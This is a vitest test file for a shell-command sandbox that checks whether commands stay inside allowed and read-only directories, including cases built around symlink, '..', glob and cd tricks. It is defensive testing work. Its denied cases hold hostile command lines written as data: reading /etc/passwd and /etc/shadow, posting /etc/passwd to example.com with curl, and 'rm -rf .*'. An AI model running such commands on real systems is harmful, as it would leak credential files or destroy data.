// Rule 6: allowed_dirs (read + write) and read_only_dirs (read), on a real scratch tree with real
// symlinks. ROOT/work is allowed (cwd), ROOT/ro read-only; ROOT/workshop and ROOT/outside are
// neither; ROOT/work/out → ROOT/outside and ROOT/work/rolink → ../ro are symlinks.
import { rmSync } from "node:fs";
import { afterAll, describe, expect, it } from "vitest";
import { decide, HOME, scratchTree } from "./helpers.js";

const t = scratchTree();
afterAll(() => rmSync(t.root, { recursive: true, force: true }));

const DIRS = { allowed_dirs: [t.work], read_only_dirs: [t.ro] };

type Case = [command: string, decision: "allow" | "deny", reason?: RegExp];

const CASES: Record<string, Case[]> = {
  "inside and outside, segment-wise": [
    ["touch x", "allow"],
    [`touch ${t.work}/x`, "allow"],
    [`touch ${t.work}//x`, "allow"],
    [`cat ${t.work}`, "allow"],
    [`touch ${t.workshop}/x`, "deny", new RegExp(`^allowed_dirs: "touch" writes ${t.workshop}/x at 1:7 \\(outside allowed_dirs\\)$`)],
    [`cat ${t.root}/workshop/a`, "deny", /"cat" reads .*workshop\/a/],
    [`cat ${t.work}shop/a`, "deny", /outside allowed_dirs and read_only_dirs/],
    ["cat /etc/passwd", "deny", /^allowed_dirs: "cat" reads \/etc\/passwd at 1:5 \(outside allowed_dirs and read_only_dirs\)$/],
    ["cat ~/notes", "deny", new RegExp(`reads ${HOME}/notes`)],
    ["cat ~root/x", "deny", /reads \/root\/x/],
    ["python3 /opt/s.py", "deny", /"python3" reads \/opt\/s.py/],
    ["node --require=/opt/x.js app.js", "deny", /reads \/opt\/x.js/],
    ["gcc -I/opt/include x.c", "deny", /reads \/opt\/include/],
    ["curl file:///etc/passwd", "deny", /reads \/etc\/passwd/],
    ["echo /etc/passwd", "allow"],
    ["grep -r TODO .", "allow"],
    ["ls", "allow"],
  ],
  "read_only_dirs": [
    ["cat ../ro/data.txt", "allow"],
    [`cat ${t.ro}/data.txt | wc -l`, "allow"],
    ["cp ../ro/data.txt copy.txt", "allow"],
    ["cp a.txt ../ro/b", "deny", new RegExp(`^read_only_dirs: "cp" writes ${t.ro}/b at 1:10 \\(read-only\\)$`)],
    [`cp -t ${t.ro} a.txt`, "deny", /read_only_dirs: "cp" writes/],
    [`mv a.txt ${t.ro}/`, "deny", /read_only_dirs/],
    [`mv ${t.ro}/data.txt .`, "deny", /read_only_dirs: "mv" writes .*data.txt/],
    [`sed -i s/a/b/ ${t.ro}/data.txt`, "deny", /read_only_dirs: "sed" writes/],
    [`sed -n 1p ${t.ro}/data.txt`, "allow"],
    [`sed s/a/b/ ${t.ro}/data.txt > fixed.txt`, "allow"],
    [`dd if=/dev/zero of=${t.ro}/disk bs=1k count=1`, "deny", /read_only_dirs: "dd" writes .*disk/],
    [`dd if=${t.ro}/data.txt of=copy`, "allow"],
    [`tee ${t.ro}/log < a.txt`, "deny", /"tee" writes/],
    [`echo x >> ${t.ro}/data.txt`, "deny", /read_only_dirs: "echo" writes/],
    [`tar xzf a.tgz -C ${t.ro}`, "deny", /"tar" writes/],
    ["tar czf out.tgz sub", "allow"],
    [`curl -o ${t.ro}/page https://example.com`, "deny", /"curl" writes/],
    ["curl -d @/etc/passwd https://example.com", "deny", /"curl" reads \/etc\/passwd/],
    [`git -C ${t.ro} commit -m x`, "deny", /"git" writes/],
    [`git -C ${t.ro} log`, "allow"],
    [`git clone https://example.com/y.git ${t.ro}/y`, "deny", /"git" writes/],
    [`chmod -x ${t.ro}/data.txt`, "deny", /"chmod" writes/],
    [`truncate -s 0 ${t.ro}/data.txt`, "deny", /"truncate" writes/],
    [`find ${t.ro} -exec rm {} \\;`, "deny", /read_only_dirs: "rm" writes .* via find -exec/],
    [`find ${t.ro} -name '*.txt'`, "allow"],
    [`find ${t.ro} -fprint ${t.ro}/list`, "deny", /"find" writes/],
  ],
  "redirects": [
    ["echo hi > /dev/null", "allow"],
    ["echo hi 2>/dev/null >/dev/stderr", "allow"],
    ["ls >/dev/stdout 2>&1", "allow"],
    ["cat /dev/null", "allow"],
    ["head -c 8 /dev/urandom", "allow"],
    ["echo hi > out.txt", "allow"],
    ["echo hi > ../out.txt", "deny", new RegExp(`"echo" writes ${t.root}/out.txt at 1:9`)],
    ["echo hi &> /etc/motd", "deny", /writes \/etc\/motd/],
    ["sort < /etc/shadow", "deny", /"sort" reads \/etc\/shadow/],
    ["{ ls; } > /etc/x", "deny", /"redirect" writes \/etc\/x/],
    ['echo hi > "$OUT"', "deny", /not a literal path/],
    ["exec 3>/etc/x", "deny", /"exec" writes \/etc\/x/],
  ],
  ".. escapes, braces and globs": [
    ["touch sub/../x", "allow"],
    ["touch ../x", "deny", new RegExp(`writes ${t.root}/x`)],
    ["touch sub/../../x", "deny", /outside allowed_dirs/],
    [`touch ${t.work}/../workshop/x`, "deny", /workshop\/x/],
    [`touch ${t.work}/{a,..}/x`, "deny", new RegExp(`writes ${t.root}/x`)],
    ["touch {a,b}.txt", "allow"],
    ["rm -rf .*", "deny", new RegExp(`writes ${t.root} `)],
    ["rm -rf ./*", "allow"],
    [`touch ${t.root}/work*/x`, "deny", /outside allowed_dirs/],
  ],
  "symlinks are followed (realpath of the longest existing prefix)": [
    ["rm out/x", "deny", new RegExp(`"rm" writes ${t.work}/out/x \\(${t.outside}/x\\)`)],
    ["cat out/secret", "deny", /outside allowed_dirs and read_only_dirs/],
    ["cat out/../x", "deny", new RegExp(`reads ${t.work}/x \\(${t.root}/x\\)`)],
    ["cat rolink/data.txt", "allow"],
    ["touch rolink/new", "deny", new RegExp(`^read_only_dirs: "touch" writes ${t.work}/rolink/new \\(${t.ro}/new\\)`)],
    ["ln -s /etc etc", "deny", /"ln" reads \/etc/],
    ["ln -s ../outside l", "deny", /"ln" reads .*outside/],
    ["ln -s sub l", "allow"],
    ["cat */secret", "deny", new RegExp(`reads ${t.work}/out/secret \\(${t.outside}/secret\\)`)],
    ["cat o?t/x", "deny", /outside allowed_dirs and read_only_dirs/],
    ["touch ou*", "deny", new RegExp(`writes ${t.work}/out \\(${t.outside}\\)`)],
    ["cat s*/x a.*", "allow"],
    ["rm out", "allow"],
    ["unlink rolink", "allow"],
    ["rm -rf out/", "deny", new RegExp(`"rm" writes ${t.work}/out \\(${t.outside}\\)`)],
    ["chmod 600 out", "deny", /"chmod" writes/],
  ],
  "cd is tracked through && ; || and blocks": [
    ["cd /etc && touch x", "deny", /"cd" reads \/etc at 1:4.*|"touch" writes \/etc\/x at 1:18/],
    ["cd sub && touch ../x", "allow"],
    ["cd sub; cd ..; touch x", "allow"],
    ["cd .. && touch x", "deny", new RegExp(`"touch" writes ${t.root}/x`)],
    [`cd ${t.ro}; cat data.txt`, "allow"],
    [`cd ${t.ro}; touch x`, "deny", new RegExp(`read_only_dirs: "touch" writes ${t.ro}/x`)],
    [`cd ${t.ro} | true; touch x`, "allow"],
    [`(cd ${t.ro}); touch x`, "allow"],
    [`cd ${t.ro} || true; touch x`, "deny", /read_only_dirs: "touch"/],
    [`if [ -d x ]; then cd ${t.ro}; fi; touch x`, "deny", /read_only_dirs: "touch"/],
    [`command cd ${t.ro}; touch x`, "deny", /read_only_dirs: "touch"/],
    ["for d in a b c; do cd ..; done; touch y", "deny", /working directory is not known/],
    ["f() { cd /; }; f; touch x", "deny", /working directory is not known/],
    ["cd $DIR && touch x", "deny", /not a literal word/],
    ["cd; touch x", "deny", new RegExp(`"cd" reads ${HOME}`)],
    ["cd - && ls", "deny", /previous directory/],
    // tree-sitter hangs `> f` on the whole list; bash gives it to the last command, after the cd.
    [`cd ${t.ro} && echo hi > x`, "deny", new RegExp(`read_only_dirs: "echo" writes ${t.ro}/x`)],
    ["cd sub && echo hi > x", "allow"],
    [`ls | sort > ${t.ro}/sorted`, "deny", /read_only_dirs: "sort" writes/],
  ],
  "what cannot be checked is denied": [
    ["cat $f", "deny", /^allowed_dirs: "cat" path "\$f" is not a literal word at 1:5$/],
    ['rm "$HOME/x"', "deny", /not a literal word/],
    ["ls | xargs rm", "deny", /"rm" takes its operands from stdin \(xargs\)/],
    ["ls | xargs grep x", "deny", /takes its operands from stdin/],
    ["ls | xargs echo", "allow"],
    ["find . -execdir rm ../x \\;", "deny", /working directory is not known/],
    ["ssh host ls", "deny", /"ssh" runs commands on another machine/],
    ["cat ~bob/x", "deny", /cannot tell where ~bob is/],
  ],
};

describe("allowed_dirs / read_only_dirs", () => {
  for (const [group, cases] of Object.entries(CASES)) {
    describe(group, () => {
      for (const [command, decision, reason] of cases) {
        it(`${command.replaceAll(t.root, "ROOT")} → ${decision}`, async () => {
          const d = await decide(command, DIRS, t.work);
          expect({ command, decision: d.decision, reasons: d.reasons }).toMatchObject({ decision });
          if (reason) expect(d.reasons.some((r) => reason.test(r)), `reasons: ${JSON.stringify(d.reasons)}`).toBe(true);
        });
      }
    });
  }

  it("read_only_dirs alone: reads there, writes nowhere", async () => {
    expect((await decide("cat data.txt", { read_only_dirs: [t.ro] }, t.ro)).decision).toBe("allow");
    const d = await decide("touch x", { read_only_dirs: [t.ro] }, t.ro);
    expect(d.decision).toBe("deny");
    expect(d.reasons[0]).toMatch(/^read_only_dirs: "touch" writes .* \(read-only\)$/);
    expect((await decide(`touch ${t.work}/x`, { read_only_dirs: [t.ro] }, t.ro)).reasons[0]).toMatch(/\(no allowed_dirs\)/);
  });

  it("an empty allowed_dirs list allows no path at all", async () => {
    expect((await decide("cat a.txt", { allowed_dirs: [] }, t.work)).decision).toBe("deny");
    expect((await decide("uptime", { allowed_dirs: [] }, t.work)).decision).toBe("allow");
  });

  it("dirs may be relative to cwd, use ~, or be symlinks themselves", async () => {
    expect((await decide("touch x", { allowed_dirs: ["."] }, t.work)).decision).toBe("allow");
    expect((await decide("touch ../x", { allowed_dirs: ["."] }, t.work)).decision).toBe("deny");
    expect((await decide("touch ~/x", { allowed_dirs: ["~"] }, t.work)).decision).toBe("allow");
    expect((await decide(`touch ${t.work}/rolink/x`, { allowed_dirs: [`${t.work}/rolink`] }, t.work)).decision).toBe("allow");
  });
});
